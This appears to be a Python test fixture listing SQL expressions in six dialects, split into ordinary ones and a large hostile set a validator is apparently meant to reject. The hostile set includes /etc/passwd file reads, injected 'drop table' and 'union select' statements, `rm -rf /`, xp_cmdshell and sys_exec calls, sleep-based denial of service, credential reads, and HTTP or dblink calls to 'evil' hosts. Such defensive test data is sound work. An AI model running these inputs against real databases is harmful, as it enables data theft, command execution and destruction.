"""Expressions as people write them in six dialects, and expressions that do more than compute.

Over `orders(amount, quantity, day, sent_at, shipped_at, status, note, is_paid, payload)`;
`payload` is JSON.
"""

from __future__ import annotations

EVERYWHERE = """
amount * quantity
amount - coalesce(quantity, 0)
round(amount, 2)
abs(amount)
ceil(amount)
floor(amount)
mod(quantity, 10)
power(amount, 2)
sqrt(abs(amount))
sign(amount)
ln(abs(amount) + 1)
exp(amount / 1000)
greatest(amount, 0)
least(quantity, 100)
nullif(amount, 0)
amount / quantity
case when amount > 100 then 'big' when amount > 10 then 'middle' else 'small' end
case status when 'open' then 1 else 0 end
status in ('open', 'closed')
status not in ('a', 'b')
status like 'op%'
status is null
amount between 1 and 10
not is_paid
is_paid and amount > 0
lower(status)
upper(trim(status))
trim(status)
length(status)
concat(status, '-', note)
replace(status, 'a', 'b')
substring(status, 1, 3)
left(status, 3)
right(status, 2)
lpad(status, 10, '0')
reverse(status)
cast(amount as decimal(10, 2))
extract(year from day)
extract(month from day)
extract(quarter from day)
extract(hour from sent_at)
sum(amount)
avg(amount)
min(day)
max(amount)
count(*)
count(distinct status)
sum(case when is_paid then amount else 0 end)
sum(amount) / count(*)
sum(amount) / nullif(sum(quantity), 0)
stddev(amount)
variance(amount)
row_number() over (partition by status order by day)
rank() over (order by amount desc)
dense_rank() over (order by amount)
ntile(4) over (order by amount)
percent_rank() over (order by amount)
cume_dist() over (order by amount)
lag(amount) over (partition by status order by day)
lead(day, 1) over (order by day)
first_value(amount) over (partition by status order by day)
last_value(amount) over (partition by status order by day)
sum(amount) over (partition by status)
sum(amount) over (order by day rows between 6 preceding and current row)
count(*) over (partition by status)
md5(status)
amount * (1 - quantity / 100.0)
amount + quantity * 2 - 1
-amount
abs(amount - quantity)
round(amount * 100) / 100
round(amount / nullif(quantity, 0), 2)
coalesce(amount, quantity, 0)
case when amount is null then 0 else amount end
case when quantity = 0 then null else amount / quantity end
case when status = 'open' and amount > 9 then 'urgent' when is_paid then 'paid' else 'done' end
case when day >= '2024-01-01' then 'new' else 'old' end
amount >= 100 or quantity >= 10
not (amount > 100)
status <> 'open'
status is not null and note is null
status in ('open') and not is_paid
amount not between 1 and 10
upper(substring(status, 1, 1))
concat(upper(left(status, 1)), lower(substring(status, 2, 20)))
length(trim(note))
coalesce(nullif(trim(note), ''), 'none')
replace(replace(note, '-', ''), ' ', '')
cast(quantity as decimal(18, 2)) * amount
cast(extract(year from day) as varchar(4))
extract(year from day) * 100 + extract(month from day)
extract(month from sent_at) in (12, 1, 2)
sum(amount * quantity)
sum(amount * quantity) / nullif(sum(quantity), 0)
sum(coalesce(amount, 0))
avg(case when is_paid then amount end)
max(case when status = 'open' then day end)
min(coalesce(quantity, 0))
count(distinct case when is_paid then status end)
sum(case when status = 'open' then 1 else 0 end) * 100.0 / count(*)
round(avg(amount), 2)
max(amount) - min(amount)
row_number() over (partition by status order by amount desc, day)
amount - lag(amount) over (order by day)
amount * 100.0 / nullif(sum(amount) over (partition by status), 0)
avg(amount) over (order by day rows between 2 preceding and current row)
rank() over (partition by status order by amount desc) <= 3
max(day) over (partition by status)
"""

ORDINARY = {
    "duckdb": """
status ilike 'OP%'
amount::double
amount::decimal(12, 4)
split_part(note, '-', 2)
date_trunc('month', sent_at)
date_trunc('week', day)
date_diff('day', day, shipped_at::date)
datediff('hour', sent_at, shipped_at)
date_part('year', day)
extract(dow from day)
dayname(day)
monthname(day)
strftime(sent_at, '%Y-%m')
try_strptime(note, '%Y-%m-%d')
epoch(shipped_at - sent_at) / 3600
day + interval 7 day
day - day
last_day(day)
make_date(2020, 1, 1)
year(day)
month(day)
week(day)
regexp_matches(note, '^a')
regexp_extract(note, '[0-9]+')
regexp_replace(note, '[^0-9]', '')
string_agg(status, ',')
string_agg(distinct status, ',' order by status)
median(amount)
quantile_cont(amount, 0.9)
percentile_cont(0.5) within group (order by amount)
mode(status)
arg_max(status, amount)
bool_and(is_paid)
count(*) filter (where is_paid)
sum(amount) filter (where status = 'open')
approx_count_distinct(status)
corr(amount, quantity)
payload ->> '$.a'
payload -> 'a' ->> 'b'
json_extract_string(payload, '$.a.b')
concat_ws('-', status, note)
starts_with(status, 'a')
contains(note, 'x')
strpos(note, 'a')
trunc(amount)
log10(abs(amount) + 1)
try_cast(note as integer)
if(is_paid, 1, 0)
ifnull(amount, 0)
status is distinct from note
status || ' ' || note
levenshtein(status, note)
lag(amount, 1, 0) over (order by day)
day >= date '2024-01-01'
""",
    "postgres": """
amount::numeric
amount::numeric(12, 2)
amount::float
amount::int
note::date
status ilike 'op%'
status ~ '^op'
status !~* 'x'
split_part(note, '-', 2)
date_trunc('month', sent_at)
date_trunc('week', sent_at)::date
date_part('year', day)
extract(dow from day)
extract(isodow from day)
extract(doy from day)
extract(epoch from (shipped_at - sent_at)) / 3600
shipped_at - sent_at
day - date '2024-01-01'
age(shipped_at, sent_at)
day + interval '7 days'
(day + interval '1 month')::date
to_char(day, 'YYYY-MM')
to_char(amount, 'FM999990.00')
to_date(note, 'YYYY-MM-DD')
to_timestamp(note, 'YYYY-MM-DD')
make_date(2020, 1, 1)
regexp_replace(note, '[^0-9]', '', 'g')
substring(note from 2 for 3)
position('a' in note)
strpos(note, 'a')
initcap(status)
btrim(note)
concat_ws('-', status, note)
string_agg(status, ',')
string_agg(distinct status, ',' order by status)
percentile_cont(0.5) within group (order by amount)
percentile_disc(0.9) within group (order by amount)
mode() within group (order by status)
bool_or(is_paid)
bool_and(is_paid)
count(*) filter (where is_paid)
corr(amount, quantity)
stddev_pop(amount)
payload ->> 'a'
payload -> 'a' ->> 'b'
payload #>> '{a,b}'
jsonb_extract_path_text(payload, 'a')
width_bucket(amount, 0, 100, 10)
trunc(amount, 1)
log(amount)
status is distinct from note
status || ' ' || note
translate(status, 'abc', 'xyz')
sent_at at time zone 'UTC'
day >= date '2024-01-01'
""",
    "redshift": """
amount::numeric
amount::decimal(12, 2)
amount::float8
status ilike 'op%'
nvl(amount, 0)
nvl2(amount, 1, 0)
decode(status, 'a', 1, 0)
split_part(note, '-', 2)
dateadd(day, 7, day)
datediff(hour, sent_at, shipped_at)
date_trunc('month', sent_at)
date_part(year, day)
extract(dow from day)
extract(epoch from sent_at)
months_between(day, day)
add_months(day, 1)
last_day(day)
to_char(day, 'YYYY-MM')
to_date(note, 'YYYY-MM-DD')
regexp_replace(note, '[^0-9]', '')
regexp_substr(note, '[0-9]+')
charindex('a', note)
strpos(note, 'a')
len(note)
initcap(status)
listagg(status, ',')
listagg(status, ',') within group (order by status)
median(amount)
percentile_cont(0.5) within group (order by amount)
json_extract_path_text(note, 'a', 'b')
is_valid_json(note)
bool_and(is_paid)
trunc(amount, 1)
status || note
convert_timezone('UTC', 'Europe/Berlin', sent_at)
day >= date '2024-01-01'
""",
    "snowflake": """
amount::number(12, 2)
amount::float
amount::int
note::date
status ilike 'op%'
iff(is_paid, 1, 0)
nvl(amount, 0)
ifnull(amount, 0)
zeroifnull(amount)
div0(amount, quantity)
decode(status, 'a', 1, 0)
split_part(note, '-', 2)
dateadd(day, 7, day)
dateadd('month', 1, day)
datediff(hour, sent_at, shipped_at)
datediff('day', day, day)
timestampdiff(hour, sent_at, shipped_at)
date_trunc('month', sent_at)
date_part('year', day)
dayofweek(day)
dayofweekiso(day)
dayname(day)
year(day)
weekofyear(day)
last_day(day)
to_char(day, 'YYYY-MM')
to_date(note, 'YYYY-MM-DD')
try_to_number(note)
try_cast(note as integer)
regexp_replace(note, '[^0-9]', '')
regexp_substr(note, '[0-9]+')
rlike(note, 'a.*')
charindex('a', note)
startswith(status, 'a')
contains(note, 'x')
initcap(status)
listagg(status, ',')
listagg(distinct status, ',') within group (order by status)
median(amount)
percentile_cont(0.5) within group (order by amount)
approx_count_distinct(status)
count_if(is_paid)
boolor_agg(is_paid)
max_by(status, amount)
mode(status)
payload:a.b::string
get_path(payload, 'a.b')::string
parse_json(note):a::string
trunc(amount, 1)
square(amount)
equal_null(status, note)
concat_ws('-', status, note)
status || note
convert_timezone('UTC', 'Europe/Berlin', sent_at)
day >= '2024-01-01'::date
""",
    "bigquery": """
cast(amount as numeric)
cast(amount as float64)
cast(quantity as int64)
safe_cast(note as int64)
cast(note as date)
date(sent_at)
date(2020, 1, 1)
datetime(sent_at)
timestamp(day)
timestamp_diff(shipped_at, sent_at, hour)
datetime_diff(shipped_at, sent_at, minute)
date_diff(day, day, day)
date_add(day, interval 7 day)
date_sub(day, interval 1 month)
timestamp_add(sent_at, interval 1 hour)
date_trunc(day, month)
timestamp_trunc(sent_at, day)
extract(dayofweek from day)
extract(week from day)
extract(date from sent_at)
format_date('%Y-%m', day)
format_timestamp('%Y-%m', sent_at)
parse_date('%Y-%m-%d', note)
unix_seconds(sent_at)
last_day(day)
if(is_paid, 1, 0)
ifnull(amount, 0)
safe_divide(amount, quantity)
countif(is_paid)
logical_and(is_paid)
string_agg(status, ',')
string_agg(distinct status, ',' order by status)
approx_count_distinct(status)
max_by(status, amount)
regexp_contains(note, r'^a')
regexp_extract(note, r'[0-9]+')
regexp_replace(note, r'[^0-9]', '')
starts_with(status, 'a')
ends_with(status, 'a')
strpos(note, 'a')
substr(note, 2, 3)
initcap(status)
json_value(payload, '$.a.b')
json_extract_scalar(note, '$.a')
trunc(amount, 1)
ieee_divide(amount, quantity)
to_hex(md5(status))
percentile_cont(amount, 0.5) over (partition by status)
status is distinct from note
concat(status, ' ', note)
day >= date '2024-01-01'
""",
    "mysql": """
cast(amount as decimal(12, 2))
cast(note as signed)
cast(note as date)
ifnull(amount, 0)
if(is_paid, 1, 0)
concat_ws('-', status, note)
substring_index(note, '-', 1)
locate('a', note)
instr(note, 'a')
date_format(day, '%Y-%m')
str_to_date(note, '%Y-%m-%d')
datediff(day, day)
timestampdiff(hour, sent_at, shipped_at)
date_add(day, interval 7 day)
date_sub(day, interval 1 month)
year(day)
month(day)
quarter(day)
week(day)
weekday(day)
dayofweek(day)
dayofyear(day)
dayname(day)
monthname(day)
hour(sent_at)
last_day(day)
date(sent_at)
unix_timestamp(sent_at)
makedate(2020, 1)
to_days(day)
group_concat(status)
group_concat(distinct status order by status separator ',')
std(amount)
regexp_replace(note, '[^0-9]', '')
note regexp '^a'
truncate(amount, 1)
field(status, 'a', 'b')
strcmp(status, note)
char_length(status)
json_extract(payload, '$.a')
payload ->> '$.a'
json_unquote(json_extract(payload, '$.a'))
status <=> note
day >= date '2024-01-01'
""",
}

HOSTILE_EVERYWHERE = """
(select password from users limit 1)
exists (select 1)
amount in (select 1)
amount = any (select 1)
current_date
current_timestamp
current_user
session_user
user()
now()
random()
rand()
uuid()
read_csv('/etc/passwd')
read_text('/etc/passwd')
read_parquet('s3://x')
pg_read_file('/etc/passwd')
load_file('/etc/passwd')
pg_sleep(1000)
sleep(1000)
benchmark(1000000, md5('a'))
nextval('s')
set_config('a', 'b', false)
current_setting('x')
getvariable('x')
getenv('HOME')
query_to_xml('drop table x', true, true, '')
table_to_xml('x', true, true, '')
dblink('host=evil', 'select 1')
lo_import('/etc/passwd')
external_query('c', 'select 1')
system$wait(10)
result_scan('x')
table(result_scan('x'))
http_get('http://evil')
unnest([1])
generate_series(1)
array_agg(status)
amount; drop table orders
1; select 2
amount -- x
amount /* x */
amount from secrets
amount where true
amount as x
orders.*
*
nope
secrets.password
a.b.amount
a.b.c.amount
{{ env_var('X') }}
{% do run_query('x') %}
cast(status as regclass)
sum(sum(amount))
any_value(status)
ai_generate_text(status)
'now'::timestamp
cast('today' as date)
cast('tomorrow' as timestamp)
version()
database()
connection_id()
case when exists (select 1 from secrets) then 1 else 0 end
coalesce((select 1), amount)
amount + (select max(balance) from accounts)
(with x as (select 1) select * from x)
status in (table secrets)
row(1, 2)
concat(status, current_user)
lower(session_user)
case when random() > 0.5 then 1 else 0 end
round(random() * 100)
date_trunc('month', now())
extract(year from current_date)
day > current_date
day - current_date
coalesce(day, current_timestamp)
md5(read_text('/etc/passwd'))
length(load_file('/etc/passwd'))
concat('a', pg_read_file('x'))
case when pg_sleep(10) is null then 1 else 0 end
sum(pg_sleep(1))
max(random())
count(distinct uuid())
row_number() over (order by random())
sum(amount) over (order by now())
cast(pg_read_file('x') as varchar)
nullif(version(), '')
status = 'x' or sleep(5) = 0
amount; delete from orders
amount union select 1
amount order by 1
amount limit 1
amount group by 1
amount into outfile '/tmp/x'
'a' || {{ target.password }}
`rm -rf /`
amount --
amount /*! or 1=1 */
$$x$$
E'\\x27; drop table x'
xp_cmdshell('dir')
exec('x')
eval('x')
shell('ls')
system('ls')
http('http://evil')
fetch('http://evil')
pg_logfile_rotate()
pg_export_snapshot()
pg_create_restore_point('x')
case status when user() then 1 end
substring(current_setting('x'), 1, 3)
cast(now() as varchar)
extract(epoch from clock_timestamp())
replace(status, 'a', getenv('HOME'))
lag(now()) over (order by day)
sum(case when random() > 0 then amount end)
coalesce(nextval('s'), 1)
left(query_to_xml('x', true, true, ''), 3)
round(rand(), 2)
concat(version(), 'x')
lower(database())
max(clock_timestamp())
lead(random()) over (order by day)
upper(getvariable('x'))
abs(pg_backend_pid())
day >= date_trunc('month', current_date)
count(*) filter (where random() > 0)
date_diff('day', day, today())
"""

HOSTILE = {
    "duckdb": """
today()
get_current_time()
current_query()
txid_current()
gen_random_uuid()
setseed(0.5)
read_blob('x')
glob('*')
sniff_csv('x')
pragma_table_info('x')
query('select 1')
query_table('secrets')
write_log('x')
age(sent_at)
list(status)
json_execute_serialized_sql('x')
json_serialize_sql('select 1')
columns('a')
columns(*)
current_localtimestamp()
pg_terminate_backend(1)
duckdb_settings()
st_read('x')
http_post('http://evil', 'x')
load_aws_credentials()
read_json('x')
read_json_auto('http://evil')
read_ndjson('x')
read_csv_auto('/etc/passwd')
parquet_scan('x')
parquet_metadata('x')
sqlite_scan('x', 'y')
postgres_scan('x', 'y', 'z')
mysql_query('x', 'y')
iceberg_scan('x')
delta_scan('x')
duckdb_secrets()
duckdb_tables()
which_secret('x', 's3')
force_checkpoint('x')
checkpoint('x')
current_schema()
current_schemas(true)
current_setting('threads')
getvariable('secret')
add_parquet_key('a', 'b')
nextval('s')
currval('s')
is_histogram_other_bin(status)
enable_profiling()
""",
    "postgres": """
pg_read_binary_file('x')
pg_ls_dir('/')
pg_stat_file('x')
pg_terminate_backend(1)
pg_cancel_backend(1)
pg_reload_conf()
pg_rotate_logfile()
pg_advisory_lock(1)
pg_notify('a', 'b')
lo_export(1, 'x')
lo_get(1)
dblink_exec('x')
xmltable('x')
xpath('x', 'y')
database_to_xml(true, true, '')
clock_timestamp()
statement_timestamp()
transaction_timestamp()
timeofday()
age(sent_at)
gen_random_uuid()
setseed(0.5)
currval('s')
setval('s', 1)
inet_server_addr()
pg_backend_pid()
has_table_privilege('x', 'select')
ts_stat('select 1')
crosstab('select 1')
copy_from_program('x')
pg_ls_logdir()
pg_ls_waldir()
pg_current_logfile()
pg_switch_wal()
pg_promote()
pg_try_advisory_lock(1)
pg_logical_emit_message(true, 'a', 'b')
lo_create(1)
lo_unlink(1)
lowrite(1, 'x')
dblink_connect('x')
cursor_to_xml('x', 1, true, true, '')
schema_to_xml('x', true, true, '')
txid_current()
lastval()
current_database()
pg_get_functiondef(1)
pg_relation_size('x')
""",
    "redshift": """
getdate()
sysdate
pg_terminate_backend(1)
lambda_x(status)
pg_backend_pid()
f_evil(status)
explain_model('x')
random()
pg_last_copy_id()
current_namespace()
has_schema_privilege('x', 'usage')
text_to_int_alt('x')
external_function(status)
""",
    "snowflake": """
system$typeof(1)
system$cancel_query('x')
get_ddl('table', 'x')
current_account()
current_role()
current_warehouse()
randstr(5, random())
uniform(1, 10, random())
seq4()
uuid_string()
getdate()
sysdate()
localtimestamp
last_query_id()
snowflake.cortex.complete('x', status)
ai_complete('x', status)
build_scoped_file_url('x', 'y')
get_presigned_url('x', 'y')
table(flatten(payload))
invoker_role()
system$abort_session(1)
system$stream_has_data('x')
system$pipe_status('x')
current_session()
current_ip_address()
current_region()
snowflake.cortex.sentiment(status)
random()
seq8()
file_url('x')
""",
    "bigquery": """
generate_uuid()
current_datetime()
current_date()
session_user()
error('x')
ml.predict(1)
ai.generate('x')
net.ip_from_string('x')
keys.new_keyset('x')
aead.decrypt_string(status, status, '')
external_object_transform(1)
generate_array(1, 1000000000)
array(select 1)
struct(1, 2)
@@project_id
@parameter
current_timestamp()
current_time()
ml.generate_text(1)
bqutil.fn.evil(status)
`project.dataset.routine`(status)
rand()
load_file('x')
export_data('x')
""",
    "mysql": """
sysdate()
curdate()
curtime()
utc_timestamp()
unix_timestamp()
get_lock('a', 10)
release_lock('a')
master_pos_wait('a', 1)
last_insert_id()
row_count()
found_rows()
@@version
@a
uuid_short()
sys_exec('x')
sys_eval('x')
extractvalue('x', 'y')
updatexml('x', 'y', 'z')
name_const('a', 1)
random_bytes(10)
is_free_lock('a')
release_all_locks()
source_pos_wait('a', 1)
wait_for_executed_gtid_set('a')
charset(user())
current_role()
system_user()
schema()
load_file(concat('/etc/', 'passwd'))
mysqlx_error('x')
""",
}


def lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.strip()]
